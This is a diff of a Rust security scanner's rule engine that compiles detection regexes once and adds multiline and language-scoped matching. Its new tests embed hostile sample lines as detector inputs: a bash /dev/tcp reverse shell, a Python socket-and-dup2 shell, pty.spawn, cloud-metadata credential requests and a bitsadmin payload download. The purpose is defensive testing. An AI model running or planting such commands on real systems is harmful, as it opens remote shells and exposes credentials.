@@ -1,19 +1,22 @@
 //! Pack engine: runs `SignaturePack` rules against file content and returns
 //! `Finding`s with the same structure as the hardcoded phase functions.
 
-use regex::Regex;
+use regex::{Regex, RegexBuilder, RegexSet};
 use std::path::Path;
 use walkdir::DirEntry;
 
-use crate::scanner::{Finding, Phase, Severity};
+use crate::scanner::scoring::PhaseWeights;
+use crate::scanner::{relative_path, Finding, Phase, Region, Severity};
 
-use super::schema::{ProvenanceKind, SignaturePack};
+use super::language;
+use super::registry::rule_confidence;
+use super::schema::{PackRule, ProvenanceKind, SignaturePack};
 
 // ---------------------------------------------------------------------------
 // Phase/severity parsers (mirrors scanner::cloud_sigs helpers)
 // ---------------------------------------------------------------------------
 
-fn parse_phase(s: &str) -> Option<Phase> {
+pub(crate) fn parse_phase(s: &str) -> Option<Phase> {
     match s.to_lowercase().as_str() {
         "install_hooks" | "install-hooks" => Some(Phase::InstallHooks),
         "code_patterns" | "code-patterns" => Some(Phase::CodePatterns),
@@ -28,7 +31,7 @@ fn parse_phase(s: &str) -> Option<Phase> {
     }
 }
 
-fn parse_severity(s: &str) -> Severity {
+pub(crate) fn parse_severity(s: &str) -> Severity {
     match s.to_lowercase().as_str() {
         "critical" => Severity::Critical,
         "high" => Severity::High,
@@ -37,71 +40,197 @@ fn parse_severity(s: &str) -> Severity {
     }
 }
 
+/// Weight for rules that do not set their own, from the configured table.
 fn default_weight(phase: Phase) -> u32 {
-    match phase {
-        Phase::InstallHooks => 10,
-        Phase::CodePatterns => 5,
-        Phase::NetworkExfil => 3,
-        Phase::Credentials => 2,
-        Phase::Obfuscation => 5,
-        Phase::Provenance => 1,
-        Phase::PromptInjection => 10,
-        Phase::SkillSecurity => 5,
-        Phase::InferenceSecurity => 5,
-    }
+    PhaseWeights::current().get(phase)
 }
 
 // ---------------------------------------------------------------------------
 // Content scanning
 // ---------------------------------------------------------------------------
 
-/// Run all content-based pack rules against a single file.
+/// One pack rule with its pattern compiled.
+struct CompiledRule {
+    rule: PackRule,
+    phase: Phase,
+    severity: Severity,
+    re: Regex,
+}
+
+/// A set of content rules compiled once and reused for every file.
 ///
-/// `file_path` is the relative path used in findings.
-/// `filename`  is the basename (used for file-filter matching).
-/// `contents`  is the full file text.
-pub fn scan_file_with_packs(
-    packs: &[SignaturePack],
-    file_path: &str,
-    filename: &str,
-    contents: &str,
-) -> Vec<Finding> {
-    let mut findings = Vec::new();
+/// Line-by-line rules are also combined into a single `RegexSet`, so each
+/// line is tested against all of them in one pass; only the rules that hit
+/// a line do any further work.  Multiline rules run on the whole file.
+pub struct CompiledRules {
+    rules: Vec<CompiledRule>,
+    /// Every line-by-line rule, in `line_rules` order.  `None` if the
+    /// combined set exceeds the regex size limit; each rule is then matched
+    /// on its own.
+    line_set: Option<RegexSet>,
+    /// Index into `rules` of each pattern in `line_set`.
+    line_rules: Vec<usize>,
+}
 
-    // Precompute file header (first ~1 KB) for suppression checks. Walk down
-    // to the nearest char boundary so a multi-byte char straddling byte 1024
-    // does not panic the slice (str::floor_char_boundary is still unstable).
-    let mut header_len = contents.len().min(1024);
-    while header_len > 0 && !contents.is_char_boundary(header_len) {
-        header_len -= 1;
+impl CompiledRules {
+    /// Compile `rules`, skipping any with an unknown phase or a pattern that
+    /// does not compile.
+    pub fn new<'a>(rules: impl IntoIterator<Item = &'a PackRule>) -> Self {
+        let rules: Vec<CompiledRule> = rules
+            .into_iter()
+            .filter_map(|rule| {
+                let phase = parse_phase(&rule.phase)?;
+                let re = RegexBuilder::new(&rule.pattern)
+                    .dot_matches_new_line(rule.multiline)
+                    .build()
+                    .ok()?;
+                Some(CompiledRule {
+                    rule: rule.clone(),
+                    phase,
+                    severity: parse_severity(&rule.severity),
+                    re,
+                })
+            })
+            .collect();
+        let line_rules: Vec<usize> = (0..rules.len())
+            .filter(|&i| !rules[i].rule.multiline)
+            .collect();
+        let line_set =
+            RegexSet::new(line_rules.iter().map(|&i| rules[i].rule.pattern.as_str())).ok();
+        CompiledRules {
+            rules,
+            line_set,
+            line_rules,
+        }
     }
-    let file_header = &contents[..header_len];
 
-    for pack in packs {
-        for rule in &pack.rules {
-            // File-filter gate
-            if !rule.file_filter.is_empty() && !rule.file_filter.matches(filename) {
-                continue;
+    /// Compile the rules of every pack that belong to `phase`.
+    pub fn for_phase(packs: &[SignaturePack], phase: &str) -> Self {
+        Self::new(
+            packs
+                .iter()
+                .flat_map(|p| &p.rules)
+                .filter(|r| r.phase == phase),
+        )
+    }
+
+    /// Run the rules against a single file.
+    ///
+    /// `file_path` is the relative path used in findings.
+    /// `filename`  is the basename (used for file-filter matching).
+    /// `contents`  is the full file text.
+    pub fn scan(&self, file_path: &str, filename: &str, contents: &str) -> Vec<Finding> {
+        self.scan_text(file_path, filename, contents, file_header(contents), true)
+    }
+
+    /// Run only the line-by-line rules against `chunk`, a run of whole lines
+    /// from a file too large to read at once.  Line numbers in the findings
+    /// count from the start of `chunk`; `header` is the start of the file,
+    /// for language detection and suppression checks.
+    pub fn scan_lines(
+        &self,
+        file_path: &str,
+        filename: &str,
+        chunk: &str,
+        header: &str,
+    ) -> Vec<Finding> {
+        self.scan_text(file_path, filename, chunk, file_header(header), false)
+    }
+
+    fn scan_text(
+        &self,
+        file_path: &str,
+        filename: &str,
+        contents: &str,
+        file_header: &str,
+        multiline: bool,
+    ) -> Vec<Finding> {
+        let mut findings = Vec::new();
+        let lines: Vec<&str> = contents.lines().collect();
+        // Byte offset of each line, for match regions; only built once a
+        // line rule hits.
+        let mut line_starts: Option<Vec<usize>> = None;
+
+        // File-filter and language gates
+        let detected = language::detect(filename, file_header);
+        let applies: Vec<bool> = self
+            .rules
+            .iter()
+            .map(|c| {
+                (multiline || !c.rule.multiline)
+                    && (c.rule.file_filter.is_empty() || c.rule.file_filter.matches(filename))
+                    && language::applies(&c.rule.languages, detected)
+            })
+            .collect();
+
+        // Zero-based line numbers where each line-by-line rule matches.
+        let mut line_hits: Vec<Vec<usize>> = vec![Vec::new(); self.rules.len()];
+        if self.line_rules.iter().any(|&i| applies[i]) {
+            match &self.line_set {
+                Some(set) => {
+                    for (line_num, line) in lines.iter().enumerate() {
+                        for m in set.matches(line).iter() {
+                            let i = self.line_rules[m];
+                            if applies[i] {
+                                line_hits[i].push(line_num);
+                            }
+                        }
+                    }
+                }
+                None => {
+                    for &i in self.line_rules.iter().filter(|&&i| applies[i]) {
+                        line_hits[i] = lines
+                            .iter()
+                            .enumerate()
+                            .filter(|(_, line)| self.rules[i].re.is_match(line))
+                            .map(|(n, _)| n)
+                            .collect();
+                    }
+                }
             }
+        }
 
-            let phase = match parse_phase(&rule.phase) {
-                Some(p) => p,
-                None => continue,
-            };
-            let severity = parse_severity(&rule.severity);
-            let weight = rule.weight.unwrap_or_else(|| default_weight(phase));
-
-            let re = match Regex::new(&rule.pattern) {
-                Ok(r) => r,
-                Err(_) => continue, // skip invalid patterns gracefully
+        for (i, compiled) in self.rules.iter().enumerate() {
+            if !applies[i] {
+                continue;
+            }
+            let rule = &compiled.rule;
+            let weight = rule
+                .weight
+                .unwrap_or_else(|| default_weight(compiled.phase));
+
+            // Zero-based line and the byte span of its first match.
+            let hits: Vec<(usize, (usize, usize))> = if rule.multiline {
+                let mut hits: Vec<(usize, (usize, usize))> = compiled
+                    .re
+                    .find_iter(contents)
+                    .map(|m| {
+                        let line_num = contents[..m.start()].matches('\n').count();
+                        (line_num, (m.start(), m.end()))
+                    })
+                    .collect();
+                hits.dedup_by_key(|(line_num, _)| *line_num);
+                hits
+            } else {
+                let starts = line_starts.get_or_insert_with(|| {
+                    std::iter::once(0)
+                        .chain(contents.match_indices('\n').map(|(at, _)| at + 1))
+                        .collect()
+                });
+                std::mem::take(&mut line_hits[i])
+                    .into_iter()
+                    .filter_map(|line_num| {
+                        let m = compiled.re.find(lines[line_num])?;
+                        let start = starts[line_num];
+                        Some((line_num, (start + m.start(), start + m.end())))
+                    })
+                    .collect()
             };
 
-            let lines: Vec<&str> = contents.lines().collect();
-            for (line_num, line) in lines.iter().enumerate() {
-                if !re.is_match(line) {
-                    continue;
-                }
-                let nearby = lines[line_num..lines.len().min(line_num + 4)].join("\n");
+            for (line_num, (start, end)) in hits {
+                let line = lines.get(line_num).copied().unwrap_or_default();
+                let nearby =
+                    lines[line_num.min(lines.len())..lines.len().min(line_num + 4)].join("\n");
 
                 // Suppression gate
                 if rule
@@ -124,21 +253,48 @@ pub fn scan_file_with_packs(
                 };
 
                 findings.push(Finding {
-                    phase,
+                    phase: compiled.phase,
                     rule: rule.id.clone(),
-                    severity,
+                    severity: compiled.severity,
                     file: file_path.to_string(),
                     line: Some(line_num + 1),
                     snippet: format!("{}: {}", rule.description, snippet.trim()),
                     weight,
+                    confidence: rule_confidence(rule.confidence),
                     kev: false,
                     epss: 0.0,
+                    sha256: None,
+                    region: Some(Region::of_match(contents, start, end)),
                 });
             }
         }
+
+        findings
     }
+}
 
-    findings
+/// The first ~1 KB of `contents`, for suppression checks and language
+/// detection.  Walks down to the nearest char boundary so a multi-byte char
+/// straddling byte 1024 does not panic the slice (str::floor_char_boundary
+/// is still unstable).
+fn file_header(contents: &str) -> &str {
+    let mut header_len = contents.len().min(1024);
+    while header_len > 0 && !contents.is_char_boundary(header_len) {
+        header_len -= 1;
+    }
+    &contents[..header_len]
+}
+
+/// Run all content-based pack rules against a single file, compiling them
+/// for this call.  The parity tests use this; scans hold a [`CompiledRules`].
+#[cfg(test)]
+pub fn scan_file_with_packs(
+    packs: &[SignaturePack],
+    file_path: &str,
+    filename: &str,
+    contents: &str,
+) -> Vec<Finding> {
+    CompiledRules::new(packs.iter().flat_map(|p| &p.rules)).scan(file_path, filename, contents)
 }
 
 // ---------------------------------------------------------------------------
@@ -174,11 +330,7 @@ pub fn scan_provenance_with_packs(
 
             for entry in entries {
                 let file_path = entry.path();
-                let rel_path = file_path
-                    .strip_prefix(base_path)
-                    .unwrap_or(file_path)
-                    .to_string_lossy()
-                    .to_string();
+                let rel_path = relative_path(file_path, base_path);
 
                 if rel_path.starts_with(".git/") || rel_path == ".git" {
                     continue;
@@ -201,8 +353,11 @@ pub fn scan_provenance_with_packs(
                                     line: None,
                                     snippet: format!("{}: {}", rule.description, filename),
                                     weight: default_weight(Phase::Provenance),
+                                    confidence: rule_confidence(rule.confidence),
                                     kev: false,
                                     epss: 0.0,
+                                    sha256: None,
+                                    region: None,
                                 });
                             }
                         }
@@ -220,8 +375,11 @@ pub fn scan_provenance_with_packs(
                                 line: None,
                                 snippet: format!("{}: {}", rule.description, filename),
                                 weight: 1,
+                                confidence: rule_confidence(rule.confidence),
                                 kev: false,
                                 epss: 0.0,
+                                sha256: None,
+                                region: None,
                             });
                         }
                     }
@@ -249,8 +407,11 @@ pub fn scan_provenance_with_packs(
                                     line: None,
                                     snippet: format!("{}: {}", rule.description, filename),
                                     weight: 2,
+                                    confidence: rule_confidence(rule.confidence),
                                     kev: false,
                                     epss: 0.0,
+                                    sha256: None,
+                                    region: None,
                                 });
                             }
                         }
@@ -268,8 +429,11 @@ pub fn scan_provenance_with_packs(
                                     line: None,
                                     snippet: format!("{}: {} bytes", rule.description, meta.len()),
                                     weight: 1,
+                                    confidence: rule_confidence(rule.confidence),
                                     kev: false,
                                     epss: 0.0,
+                                    sha256: None,
+                                    region: None,
                                 });
                             }
                         }
@@ -286,6 +450,116 @@ pub fn scan_provenance_with_packs(
 // Parity tests
 // ---------------------------------------------------------------------------
 
+#[cfg(test)]
+mod compiled {
+    use super::*;
+    use crate::corpus::loader::load_all_packs;
+    use std::path::PathBuf;
+    use std::time::Instant;
+
+    const PHASES: &[&str] = &[
+        "install_hooks",
+        "code_patterns",
+        "network_exfil",
+        "credentials",
+        "obfuscation",
+        "prompt_injection",
+        "skill_security",
+        "inference_security",
+    ];
+
+    fn fixture_files() -> Vec<PathBuf> {
+        let root = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../tests/fixtures");
+        walkdir::WalkDir::new(root)
+            .into_iter()
+            .filter_map(|e| e.ok())
+            .filter(|e| e.file_type().is_file())
+            .map(|e| e.into_path())
+            .collect()
+    }
+
+    #[test]
+    fn every_phase_compiles_into_one_set() {
+        let packs = load_all_packs().unwrap();
+        for phase in PHASES {
+            let compiled = CompiledRules::for_phase(&packs, phase);
+            assert!(!compiled.rules.is_empty(), "{phase} has no rules");
+            assert!(compiled.line_set.is_some(), "{phase} set failed to build");
+            assert!(compiled.rules.iter().all(|c| c.rule.phase == *phase));
+        }
+    }
+
+    #[test]
+    fn set_matching_agrees_with_per_rule_matching() {
+        let packs = load_all_packs().unwrap();
+        for phase in PHASES {
+            let with_set = CompiledRules::for_phase(&packs, phase);
+            let mut without_set = CompiledRules::for_phase(&packs, phase);
+            without_set.line_set = None;
+            for path in fixture_files() {
+                let Ok(contents) = std::fs::read_to_string(&path) else {
+                    continue;
+                };
+                let name = path.file_name().unwrap().to_string_lossy().to_string();
+                let key = |f: &Finding| (f.rule.clone(), f.line, f.snippet.clone());
+                let a: Vec<_> = with_set
+                    .scan(&name, &name, &contents)
+                    .iter()
+                    .map(key)
+                    .collect();
+                let b: Vec<_> = without_set
+                    .scan(&name, &name, &contents)
+                    .iter()
+                    .map(key)
+                    .collect();
+                assert_eq!(a, b, "{phase} differs on {}", path.display());
+            }
+        }
+    }
+
+    /// Compile-once versus compile-per-file over a synthetic 200-file scan.
+    /// Run with `cargo test --release bench_compiled_rules -- --ignored
+    /// --nocapture`.
+    #[test]
+    #[ignore]
+    fn bench_compiled_rules() {
+        let packs = load_all_packs().unwrap();
+        let file =
+            "import os\nconst x = require('fs');\nfetch(url).then(r => r.json())\n".repeat(20);
+        let files = 200;
+
+        let start = Instant::now();
+        let mut per_file = 0;
+        for _ in 0..files {
+            for phase in PHASES {
+                per_file += CompiledRules::for_phase(&packs, phase)
+                    .scan("a.js", "a.js", &file)
+                    .len();
+            }
+        }
+        let recompiled = start.elapsed();
+
+        let start = Instant::now();
+        let compiled: Vec<CompiledRules> = PHASES
+            .iter()
+            .map(|phase| CompiledRules::for_phase(&packs, phase))
+            .collect();
+        let mut once = 0;
+        for _ in 0..files {
+            for rules in &compiled {
+                once += rules.scan("a.js", "a.js", &file).len();
+            }
+        }
+        let reused = start.elapsed();
+
+        assert_eq!(per_file, once);
+        eprintln!(
+            "{files} files: compile per file {recompiled:?}, compile once {reused:?} ({:.1}x)",
+            recompiled.as_secs_f64() / reused.as_secs_f64()
+        );
+    }
+}
+
 #[cfg(test)]
 mod parity_rust {
     use super::scan_file_with_packs;
@@ -307,7 +581,7 @@ mod parity_rust {
     fn lolbin_bundle_packs() -> Vec<SignaturePack> {
         use crate::corpus::loader::load_packs_from_dir;
         let dir = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../packs/lolbin/v1");
-        load_packs_from_dir(&dir)
+        load_packs_from_dir(&dir).expect("lolbin bundle must load")
     }
 
     fn has_rule(findings: &[Finding], rule: &str) -> bool {
@@ -331,6 +605,193 @@ mod parity_rust {
         );
     }
 
+    // Multiline rules see across line breaks: connect on one line and dup2 a
+    // few lines later is one reverse-shell construct, reported where it starts.
+    #[test]
+    fn reverse_shell_spanning_lines_detected() {
+        let contents = "import os, socket\n\
+                        s = socket.socket()\n\
+                        s.connect((host, 4444))\n\
+                        \n\
+                        os.dup2(s.fileno(), 0)\n\
+                        subprocess.call([\"/bin/sh\", \"-i\"])\n";
+        let packs = packs_for_phase("network_exfil");
+        let findings = scan_file_with_packs(&packs, "x.py", "x.py", contents);
+        for rule in ["RSHELL-082", "RSHELL-083", "RSHELL-084"] {
+            assert!(
+                has_rule(&findings, rule),
+                "expected {rule}; got {findings:?}"
+            );
+        }
+        let dup2 = findings.iter().find(|f| f.rule == "RSHELL-082").unwrap();
+        assert_eq!(dup2.line, Some(3));
+        assert_eq!(dup2.severity, crate::scanner::Severity::Critical);
+    }
+
+    #[test]
+    fn connect_without_shell_is_not_a_reverse_shell() {
+        let contents = "conn.connect((host, 5432))\nrows = conn.fetch()\n";
+        let packs = packs_for_phase("network_exfil");
+        let findings = scan_file_with_packs(&packs, "db.py", "db.py", contents);
+        assert!(!has_rule(&findings, "RSHELL-082"));
+        assert!(!has_rule(&findings, "RSHELL-083"));
+    }
+
+    // Language-scoped rules: Python's exec/pickle patterns say nothing about
+    // Go, and JS's Function( says nothing about Python.
+    #[test]
+    fn python_patterns_do_not_fire_on_go_files() {
+        let packs = packs_for_phase("code_patterns");
+        let source = "exec(cmd)\nobj := pickle.loads(raw)\nshell=True\n";
+        let go = scan_file_with_packs(&packs, "main.go", "main.go", source);
+        for rule in ["CODE-002", "CODE-004", "CODE-015"] {
+            assert!(!has_rule(&go, rule), "{rule} fired on Go: {go:?}");
+        }
+        let py = scan_file_with_packs(&packs, "main.py", "main.py", source);
+        for rule in ["CODE-002", "CODE-004", "CODE-015"] {
+            assert!(has_rule(&py, rule), "expected {rule}; got {py:?}");
+        }
+
+        let js = "const f = Function('return this')();\n";
+        assert!(!has_rule(
+            &scan_file_with_packs(&packs, "a.py", "a.py", js),
+            "CODE-008"
+        ));
+        assert!(has_rule(
+            &scan_file_with_packs(&packs, "a.ts", "a.ts", js),
+            "CODE-008"
+        ));
+
+        // No extension: the shebang decides, and unknown files get every rule.
+        let script = format!("#!/usr/bin/env python3\n{source}");
+        assert!(has_rule(
+            &scan_file_with_packs(&packs, "install", "install", &script),
+            "CODE-004"
+        ));
+        assert!(has_rule(
+            &scan_file_with_packs(&packs, "notes.txt", "notes.txt", source),
+            "CODE-004"
+        ));
+    }
+
+    #[test]
+    fn bash_dev_tcp_and_pty_spawn_detected() {
+        let packs = packs_for_phase("network_exfil");
+        let bash = scan_file_with_packs(
+            &packs,
+            "x.sh",
+            "x.sh",
+            "bash -i >& /dev/tcp/10.0.0.1/9001 0>&1",
+        );
+        let shells: Vec<_> = bash
+            .iter()
+            .filter(|f| f.rule.starts_with("RSHELL-"))
+            .collect();
+        assert_eq!(shells.len(), 1, "{bash:?}");
+        assert_eq!(shells[0].rule, "RSHELL-011");
+        let redirect = scan_file_with_packs(
+            &packs,
+            "x.sh",
+            "x.sh",
+            "bash -i &> /dev/tcp/10.0.0.1/9001 0>&1",
+        );
+        assert!(has_rule(&redirect, "RSHELL-086"), "{redirect:?}");
+        let pty = scan_file_with_packs(&packs, "x.py", "x.py", "pty.spawn(\"/bin/bash\")");
+        assert!(has_rule(&pty, "RSHELL-085"), "{pty:?}");
+    }
+
+    // Internal addresses count only beside a network call; the same
+    // address in a CIDR or a config value is not a connection.
+    #[test]
+    fn metadata_and_internal_addresses_detected() {
+        let packs = packs_for_phase("network_exfil");
+        let scan = |name: &str, line: &str| scan_file_with_packs(&packs, name, name, line);
+
+        let imds = scan(
+            "x.py",
+            "r = requests.get(\"http://169.254.169.254/latest/meta-data/iam/\")",
+        );
+        assert!(has_rule(&imds, "NET-018"), "{imds:?}");
+        let gcp = scan(
+            "x.sh",
+            "curl -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/",
+        );
+        assert!(has_rule(&gcp, "NET-018"), "{gcp:?}");
+        let connect = scan("x.py", "s.connect((\"10.0.4.17\", 8443))");
+        assert!(has_rule(&connect, "NET-019"), "{connect:?}");
+        let fetch = scan("x.js", "await fetch(`http://192.168.1.20:8080/upload`)");
+        assert!(has_rule(&fetch, "NET-019"), "{fetch:?}");
+        let loopback = scan(
+            "x.py",
+            "requests.post(\"http://127.0.0.1:4444/cb\", data=d)",
+        );
+        assert!(has_rule(&loopback, "NET-020"), "{loopback:?}");
+
+        for line in [
+            "  - ipBlock: {cidr: 169.254.169.254/32}",
+            "PRIVATE_NETS = [\"10.0.0.0/8\", \"172.16.0.0/12\"]",
+            "host = \"10.0.4.17\"",
+            "s.connect((\"172.32.0.5\", 80))",
+        ] {
+            let findings = scan("x.py", line);
+            assert!(
+                !["NET-018", "NET-019", "NET-020"]
+                    .iter()
+                    .any(|rule| has_rule(&findings, rule)),
+                "{line}: {findings:?}"
+            );
+        }
+        let in_tests = scan_file_with_packs(
+            &packs,
+            "tests/test_api.py",
+            "tests/test_api.py",
+            "requests.get(\"http://localhost:8000/health\")",
+        );
+        assert!(!has_rule(&in_tests, "NET-020"), "{in_tests:?}");
+    }
+
+    // Windows droppers: command-line shapes fire in any file (here a JS
+    // string), the looser hidden-window and download checks only in
+    // Windows scripts.
+    #[test]
+    fn windows_payload_fixtures_detected() {
+        let packs = load_all_packs().expect("embedded packs must parse");
+        let dir =
+            std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../tests/fixtures/windows");
+        let win_rules = |name: &str| -> Vec<(String, usize)> {
+            let contents = std::fs::read_to_string(dir.join(name)).unwrap();
+            let mut rules: Vec<(String, usize)> =
+                scan_file_with_packs(&packs, name, name, &contents)
+                    .into_iter()
+                    .filter(|f| f.rule.starts_with("WIN-"))
+                    .map(|f| (f.rule, f.line.unwrap()))
+                    .collect();
+            rules.sort();
+            rules
+        };
+        let owned = |rules: &[(&str, usize)]| -> Vec<(String, usize)> {
+            rules.iter().map(|(r, l)| (r.to_string(), *l)).collect()
+        };
+
+        assert_eq!(
+            win_rules("dropper.ps1"),
+            owned(&[("WIN-001", 3), ("WIN-006", 3), ("WIN-007", 4)])
+        );
+        assert_eq!(
+            win_rules("install.bat"),
+            owned(&[("WIN-003", 4), ("WIN-004", 3), ("WIN-005", 5)])
+        );
+        assert_eq!(win_rules("postinstall.js"), owned(&[("WIN-002", 2)]));
+
+        let upper = scan_file_with_packs(
+            &packs,
+            "SETUP.CMD",
+            "SETUP.CMD",
+            "bitsadmin /transfer job http://203.0.113.5/x.exe C:\\x.exe",
+        );
+        assert!(has_rule(&upper, "WIN-007"), "{upper:?}");
+    }
+
     // Every rule's pattern (embedded packs AND the optional LOLBin bundle) must
     // compile under the `regex` crate. The engine silently skips patterns that
     // fail to compile (Err(_) => continue), so an invalid pattern is a *silent*
@@ -340,7 +801,10 @@ mod parity_rust {
     fn all_rule_patterns_compile() {
         use regex::Regex;
         let mut bad = Vec::new();
-        let packs = load_all_packs().into_iter().chain(lolbin_bundle_packs());
+        let packs = load_all_packs()
+            .expect("embedded packs must parse")
+            .into_iter()
+            .chain(lolbin_bundle_packs());
         for pack in packs {
             for rule in &pack.rules {
                 if let Err(e) = Regex::new(&rule.pattern) {